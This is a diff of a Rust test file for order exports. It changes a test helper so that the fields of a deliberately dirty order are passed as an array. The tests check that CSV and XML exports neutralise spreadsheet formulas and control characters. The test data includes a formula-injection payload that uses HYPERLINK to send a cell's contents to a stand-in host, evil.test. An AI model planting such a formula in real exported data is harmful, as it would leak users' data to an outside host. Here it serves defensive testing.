@@ -156,7 +156,8 @@ async fn exports_apply_filters_scoping_and_authorization() {
 
 /// Creates an order whose text fields are what an attacker (or a sloppy feed)
 /// would put there; returns its id.
-async fn dirty_order(app: &TestApp, token: &str, destination: &str, source_id: &str, code: &str, customer: &str, sku: &str, item: &str) -> String {
+/// `[sourceId, code, customerName, item productId, item name]`.
+async fn dirty_order(app: &TestApp, token: &str, destination: &str, [source_id, code, customer, sku, item]: [&str; 5]) -> String {
     let body = app
         .gql(
             Some(token),
@@ -251,9 +252,9 @@ async fn exports_neutralise_formulas_and_keep_xml_well_formed() {
     let admin = app.admin().await;
     let t = app.tenant(&admin, "acme").await;
     let hyperlink = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Click\")";
-    let first = dirty_order(&app, &t.staff, &t.destination, "DIRTY-1", hyperlink, "+1 555 0100", "-2", "a\u{1}b\u{B}c").await;
-    let second = dirty_order(&app, &t.staff, &t.destination, "@x", "#2", "\u{1F}unit separator", "@SUM(A1)", "fine item").await;
-    let third = dirty_order(&app, &t.staff, &t.destination, "DIRTY-3", "#3", "placeholder", "SKU-3", "<b>&</b>").await;
+    let first = dirty_order(&app, &t.staff, &t.destination, ["DIRTY-1", hyperlink, "+1 555 0100", "-2", "a\u{1}b\u{B}c"]).await;
+    let second = dirty_order(&app, &t.staff, &t.destination, ["@x", "#2", "\u{1F}unit separator", "@SUM(A1)", "fine item"]).await;
+    let third = dirty_order(&app, &t.staff, &t.destination, ["DIRTY-3", "#3", "placeholder", "SKU-3", "<b>&</b>"]).await;
     // The API trims its input, so a cell cannot start with a tab or a CR that
     // way; data from older versions or other writers can, so it is put there
     // directly.
@@ -317,7 +318,7 @@ async fn xml_attributes_never_carry_forbidden_characters() {
     let app = TestApp::spawn().await;
     let admin = app.admin().await;
     let t = app.tenant(&admin, "acme").await;
-    let id = dirty_order(&app, &t.staff, &t.destination, "SRC\u{1}\u{1F}", "code\u{B}x", "Ana", "SKU\u{2}", "Chair").await;
+    let id = dirty_order(&app, &t.staff, &t.destination, ["SRC\u{1}\u{1F}", "code\u{B}x", "Ana", "SKU\u{2}", "Chair"]).await;
     let response = app.http.get(format!("{}/exports/orders.xml", app.base)).bearer_auth(&t.staff).send().await.unwrap();
     let xml = response.text().await.unwrap();
     let orders = parse_orders(&xml);
